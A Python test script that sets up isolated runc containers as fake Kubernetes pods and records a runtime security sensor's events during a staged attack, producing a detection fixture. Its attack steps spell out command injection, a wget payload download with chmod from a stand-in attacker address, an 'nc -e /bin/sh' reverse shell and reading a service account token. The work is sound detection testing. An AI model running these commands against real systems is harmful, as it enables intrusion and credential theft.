#!/usr/bin/env python3
"""Records what runs and talks in a few pods of the recorded shop: real containers, the real sensor.

Containers are runc's, in cgroups that bear the UIDs and container ids of the recorded pods, each in a network
namespace with its pod's address; programs are the service beside this file and busybox. The attack is the one whose
API calls the recording labels `stolen-token`: a request makes `reviews` run commands, a dropped program opens a shell
to the attacker, who reads the service account's token.

    sudo e2e/scenario/runtime/record.py --catseye target/debug/catseye --out fixtures/clusters/shop/runtime.jsonl.zst

Needs root, runc, busybox, ip, zstd, Go and a kernel that takes the sensor's programs. What is not as on a real node is
put right afterwards: times move to the story's evening, each pod's events to its node, and what came in at a
Service's address is told as it is behind kube-proxy, at the pod's own address and port.
"""

import argparse
import ctypes
import json
import os
import random
import shutil
import socket
import subprocess
import tempfile
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent
SHOP = HERE.parents[2] / "fixtures/clusters/shop"
# The stolen token is used at 20:34:11.
BEGIN = datetime(2026, 11, 24, 20, 31, 20, tzinfo=timezone.utc)
SECONDS = 150
ATTACK_AT = 95
ATTACKER = "203.0.113.24"
BRIDGE = "cats-rt0"
CLONE_NEWNET = 0x40000000

# Pod, snapshot that knows it, arguments of its service, Service addresses that it stands behind.
PODS = [
    ("ingress-nginx-6768d8bf-r96sl", "T3", "-call frontend.shop", ""),
    ("frontend-5994b798fb-c7x9m", "T3", "-call catalog.shop,cart.shop,search.shop,recommendations.shop,reviews.shop,checkout.payments", "frontend"),
    ("catalog-5565ffd9bd-gt78n", "T3", "-query shop-db-0.shop-db.data:5432", "catalog"),
    ("cart-6f657dc57f-gsxkc", "T3", "-query redis.data:6379", "cart"),
    ("search-6c4cf8cc94-hxpl8", "T3", "-call catalog.shop -every 6s", "search"),
    ("recommendations-dfd54496-m7hzq", "T3", "-call catalog.shop -every 8s", "recommendations"),
    ("reviews-bf77856f6-6ljp4", "T2", "-query shop-db-0.shop-db.data:5432 -careless", "reviews"),
    ("checkout-6776475c86-7dwqq", "T3", "-call orders.payments,payment.payments,cart.shop -every 5s", "checkout"),
    ("orders-5565879c8-42d8p", "T3", "-call notifications.payments -query orders-db-0.orders-db.data:5432 -every 5s", "orders"),
    ("payment-7d5d46d59-4d27k", "T3", "", "payment"),
    ("notifications-fcc7f569d-28msg", "T3", "", "notifications"),
    # One of its targets does not run: attempts that fail.
    ("prometheus-74f5bbc4dc-l5bn2", "T3", "-call 10.244.2.14:8080,10.244.1.18:8080,10.244.2.8:8080,10.244.4.9:8080 -every 8s", ""),
    ("shop-db-0", "T3", "-raw :5432", ""),
    ("orders-db-0", "T3", "-raw :5432", ""),
    ("redis-0", "T3", "-raw :6379", "redis"),
]


def run(*words, **more):
    return subprocess.run([str(word) for word in words], check=True, **more)


def snapshot(name):
    text = subprocess.run(["zstd", "-dc", SHOP / "objects" / f"{name}.jsonl.zst"], check=True, capture_output=True).stdout
    return [json.loads(line) for line in text.splitlines()]


class Pod:
    def __init__(self, pod, services):
        self.name = pod["metadata"]["name"]
        self.namespace = pod["metadata"]["namespace"]
        self.uid = pod["metadata"]["uid"]
        self.node = pod["spec"]["nodeName"]
        self.address = pod["status"]["podIP"]
        self.container = pod["spec"]["containers"][0]["name"]
        self.id = pod["status"]["containerStatuses"][0]["containerID"].split("://")[1]
        self.services = services
        self.net = "cats-" + self.uid[:8]


class Network:
    """A bridge, and a namespace for each address."""

    def __init__(self):
        self.made = []
        run("ip", "link", "add", BRIDGE, "type", "bridge")
        run("ip", "link", "set", BRIDGE, "up")

    def add(self, name, addresses):
        run("ip", "netns", "add", name)
        self.made.append(name)
        outer = "v" + name[-11:]
        run("ip", "link", "add", outer, "type", "veth", "peer", "name", "eth0", "netns", name)
        run("ip", "link", "set", outer, "master", BRIDGE, "up")
        inside = ["ip", "-n", name]
        run(*inside, "link", "set", "lo", "up")
        for place, address in enumerate(addresses):
            run(*inside, "addr", "add", f"{address}/{16 if place == 0 else 32}", "dev", "eth0")
        run(*inside, "link", "set", "eth0", "up")
        # Every other address is on this wire.
        run(*inside, "route", "add", "default", "dev", "eth0", "src", addresses[0])

    def close(self):
        for name in self.made:
            subprocess.run(["ip", "netns", "del", name])
        subprocess.run(["ip", "link", "del", BRIDGE])


def dns(listen, names):
    """Answers A questions for ever; in the network of the pod that has the address."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((listen, 53))
    while True:
        asked, client = server.recvfrom(1500)
        labels, at = [], 12
        while asked[at]:
            labels.append(asked[at + 1 : at + 1 + asked[at]].decode())
            at += asked[at] + 1
        question = asked[12 : at + 5]
        kind = int.from_bytes(asked[at + 1 : at + 3], "big")
        address = names.get(".".join(labels).lower())
        head = asked[:2] + (b"\x84\x00" if address else b"\x84\x03") + b"\x00\x01"
        if address and kind == 1:
            answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x1e\x00\x04" + socket.inet_aton(address)
            server.sendto(head + b"\x00\x01\x00\x00\x00\x00" + question + answer, client)
        else:
            server.sendto(head + b"\x00\x00\x00\x00\x00\x00" + question, client)


class Container:
    def __init__(self, pod, folder, service, arguments):
        self.pod = pod
        self.bundle = folder / pod.uid
        lower = self.bundle / "lower"
        for name in ["bin", "app", "tmp", "proc", "dev", "etc", "var/run/secrets/kubernetes.io/serviceaccount"]:
            (lower / name).mkdir(parents=True)
        shutil.copy(service, lower / "app" / pod.container)
        shutil.copy(shutil.which("busybox"), lower / "bin/busybox")
        for applet in ["sh", "id", "cat", "wget", "chmod", "nc", "hostname", "sleep"]:
            (lower / "bin" / applet).symlink_to("busybox")
        search = f"{pod.namespace}.svc.cluster.local svc.cluster.local cluster.local"
        (lower / "etc/resolv.conf").write_text(f"nameserver 10.96.0.10\nsearch {search}\noptions ndots:5\n")
        (lower / "var/run/secrets/kubernetes.io/serviceaccount/token").write_text("not-a-token\n")
        for name in ["upper", "work", "rootfs"]:
            (self.bundle / name).mkdir()
        options = f"lowerdir={lower},upperdir={self.bundle}/upper,workdir={self.bundle}/work"
        run("mount", "-t", "overlay", "overlay", "-o", options, self.bundle / "rootfs")
        listen = [] if "-raw" in arguments else ["-listen", ":8080,:80"]
        config = {
            "ociVersion": "1.0.2",
            "process": {
                "terminal": False,
                "user": {"uid": 10001, "gid": 10001},
                "args": [f"/app/{pod.container}", *listen, *arguments.split()],
                "env": ["PATH=/bin"],
                "cwd": "/",
                "capabilities": {"bounding": ["CAP_NET_BIND_SERVICE"], "permitted": ["CAP_NET_BIND_SERVICE"],
                                 "effective": ["CAP_NET_BIND_SERVICE"], "inheritable": ["CAP_NET_BIND_SERVICE"],
                                 "ambient": ["CAP_NET_BIND_SERVICE"]},
            },
            "root": {"path": "rootfs", "readonly": True},
            "hostname": pod.name,
            "mounts": [
                {"destination": "/proc", "type": "proc", "source": "proc"},
                {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["mode=755"]},
                {"destination": "/dev/shm", "type": "tmpfs", "source": "shm", "options": ["mode=1777"]},
            ],
            "linux": {
                "cgroupsPath": f"/kubepods/burstable/pod{pod.uid}/{pod.id}",
                "namespaces": [{"type": "pid"}, {"type": "mount"}, {"type": "uts"}, {"type": "ipc"},
                               {"type": "network", "path": f"/run/netns/{pod.net}"}],
            },
        }
        (self.bundle / "config.json").write_text(json.dumps(config))
        self.runc = "rt-" + pod.uid[:8]
        self.process = subprocess.Popen(["runc", "run", "--bundle", self.bundle, self.runc], stdin=subprocess.DEVNULL)

    def close(self):
        subprocess.run(["runc", "delete", "--force", self.runc], capture_output=True)
        self.process.wait()
        subprocess.run(["umount", "-l", self.bundle / "rootfs"])


def attack(frontend, reviews):
    """From where the shop's front is, as a request that it passes on."""

    def render(command):
        words = ["ip", "netns", "exec", frontend.net, "curl", "-s", "-m", "30", "--data", command,
                 f"http://{reviews.address}:8080/render"]
        return subprocess.Popen([str(word) for word in words], stdout=subprocess.DEVNULL)

    steps = [
        (0, "id; hostname; cat /etc/resolv.conf"),
        (6, f"wget -q -O /dev/shm/busybox http://{ATTACKER}:8000/k && chmod 755 /dev/shm/busybox"),
        (10, f"/dev/shm/busybox nc {ATTACKER} 4444 -e /bin/sh"),
    ]
    began = time.monotonic()
    started = []
    for at, command in steps:
        time.sleep(max(0, began + at - time.monotonic()))
        started.append(render(command))
    for process in started:
        process.wait()


# What the attacker types into the shell that the dropped program opens, with a pause before each line.
TYPED = [
    (2, "id"),
    (3, "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
    (4, "nc -w 2 10.96.0.1 443 < /dev/null"),
    (4, "nc -w 2 shop-db-0.shop-db.data.svc.cluster.local 5432 < /dev/null"),
    (3, f"wget -q -O /dev/null http://{ATTACKER}:8000/done"),
    (2, "exit"),
]


def in_network(name, call):
    """Does something in a network namespace, in a process of its own."""
    pid = os.fork()
    if pid:
        return pid
    try:
        file = os.open(f"/run/netns/{name}", os.O_RDONLY)
        if ctypes.CDLL(None, use_errno=True).setns(file, CLONE_NEWNET):
            raise OSError(ctypes.get_errno(), "setns")
        call()
    finally:
        os._exit(0)


def shell_server():
    server = socket.create_server((ATTACKER, 4444))
    connection, _ = server.accept()
    for pause, line in TYPED:
        time.sleep(pause)
        connection.sendall(line.encode() + b"\n")
    time.sleep(2)
    connection.close()


def open_port(address, port):
    server = socket.create_server((address, port))
    while True:
        connection, _ = server.accept()
        connection.close()


def events_of(spool):
    for file in sorted(spool.iterdir()):
        text = subprocess.run(["zstd", "-dc", file], capture_output=True, check=True).stdout.decode()
        yield from (json.loads(line) for line in text.splitlines()[1:])


def put_right(events, pods, began):
    """The events of the pods, as their nodes would have told them in the story."""
    by_uid = {pod.uid: pod for pod in pods}
    shift = BEGIN - began

    def moved(text):
        time = datetime.fromisoformat(text.replace("Z", "+00:00")[:26].rstrip("+") + "+00:00" if "." in text else text.replace("Z", "+00:00"))
        return (time + shift).strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    for event in events:
        pod = by_uid.get(event.get("subject", {}).get("pod_uid"))
        if pod is None:
            continue
        kind, what = next(iter(event["what"].items()))
        if kind == "flow":
            if what["direction"] == "in" and what.get("port") == 80:
                what["port"] = 8080
                what["local"] = pod.address
        if kind == "listen" and what["address"].endswith(":80"):
            continue
        # runc's own steps before the container's program.
        if kind in ("mount", "namespace", "capability", "call"):
            continue
        event["time"] = moved(event["time"])
        if "since" in what:
            what["since"] = moved(what["since"])
        process = event.get("process", {})
        # What is above the container runtime is the machine that recorded.
        above = process.get("ancestors", [])
        for place, ancestor in enumerate(above):
            if ancestor.get("executable", "").endswith("/runc"):
                del above[place + 1 :]
                break
        if "started" in process:
            process["started"] = moved(process["started"])
        text = json.dumps(event, separators=(",", ":"), ensure_ascii=False)
        yield json.loads(text.replace("recording-machine", pod.node))


def main():
    arguments = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    arguments.add_argument("--catseye", required=True, type=Path)
    arguments.add_argument("--out", required=True, type=Path)
    options = arguments.parse_args()
    random.seed(1)
    folder = Path(tempfile.mkdtemp(prefix="cats-rt-"))
    run("go", "build", "-trimpath", "-ldflags=-s -w", "-o", folder / "service", ".", cwd=HERE / "service",
        env={**os.environ, "CGO_ENABLED": "0"})
    objects = {name: snapshot(name) for name in ("T2", "T3")}
    cluster_ip = {(o["metadata"]["namespace"], o["metadata"]["name"]): o["spec"].get("clusterIP")
                  for o in objects["T3"] if o["kind"] == "Service"}
    pods = []
    names = {}
    for name, known, _, service in PODS:
        found = next(o for o in objects[known] if o["kind"] == "Pod" and o["metadata"]["name"] == name)
        namespace = found["metadata"]["namespace"]
        addresses = [cluster_ip[namespace, service]] if service else []
        pods.append(Pod(found, addresses))
        for address in addresses:
            names[f"{service}.{namespace}.svc.cluster.local"] = address
        if name.endswith("-db-0"):
            names[f"{name}.{name[:-2]}.{namespace}.svc.cluster.local"] = found["status"]["podIP"]
    network, containers, helpers, sensor = Network(), [], [], None
    try:
        for pod in pods:
            network.add(pod.net, [pod.address, *pod.services])
        network.add("cats-coredns", ["10.244.2.3", "10.96.0.10"])
        network.add("cats-api", ["10.0.0.10", "10.96.0.1"])
        network.add("cats-attacker", [ATTACKER])
        helpers.append(in_network("cats-coredns", lambda: dns("10.96.0.10", names)))
        helpers.append(in_network("cats-api", lambda: open_port("10.96.0.1", 443)))
        web = folder / "web"
        web.mkdir()
        shutil.copy(shutil.which("busybox"), web / "k")
        (web / "done").write_text("ok\n")
        helpers.append(subprocess.Popen(["ip", "netns", "exec", "cats-attacker", "busybox", "httpd", "-f",
                                         "-p", f"{ATTACKER}:8000", "-h", web]).pid)
        helpers.append(in_network("cats-attacker", shell_server))
        if not Path("/sys/kernel/tracing/events").exists():
            run("mount", "-t", "tracefs", "tracefs", "/sys/kernel/tracing")
        spool = folder / "spool"
        # A hub that is not there: batches stay in the spool.
        sensor = subprocess.Popen([options.catseye, "sensor", "--hub", "http://127.0.0.1:9", "--spool", spool,
                                   "--node", "recording-machine", "--calls", "--fold", "10"])
        time.sleep(3)
        began = datetime.now(timezone.utc)
        # Databases first.
        for pod, (_, _, words, _) in sorted(zip(pods, PODS), key=lambda it: "-raw" not in it[1][2]):
            containers.append(Container(pod, folder, folder / "service", words))
        by_name = {pod.container: pod for pod in pods}
        time.sleep(ATTACK_AT)
        attack(by_name["frontend"], by_name["reviews"])
        left = SECONDS - (datetime.now(timezone.utc) - began).total_seconds()
        time.sleep(max(0, left))
        sensor.terminate()
        sensor.wait()
        sensor = None
        lines = [json.dumps(event, separators=(",", ":"), ensure_ascii=False)
                 for event in sorted(put_right(events_of(spool), pods, began), key=lambda event: event["time"])]
        plain = folder / "runtime.jsonl"
        plain.write_text("\n".join(lines) + "\n")
        run("zstd", "-19", "-q", "-f", plain, "-o", options.out)
        print(f"{len(lines)} events, {plain.stat().st_size} bytes, {options.out.stat().st_size} packed")
    finally:
        if sensor:
            sensor.terminate()
            sensor.wait()
        for container in containers:
            container.close()
        for helper in helpers:
            try:
                os.kill(helper, 15)
            except ProcessLookupError:
                pass
        network.close()
        for pod in pods:
            for path in (f"/sys/fs/cgroup/kubepods/burstable/pod{pod.uid}",):
                for place in sorted(Path("/sys/fs/cgroup").glob(f"**/pod{pod.uid}"), reverse=True):
                    for inner in place.iterdir():
                        if inner.is_dir():
                            inner.rmdir()
                    place.rmdir()
        shutil.rmtree(folder, ignore_errors=True)


main()
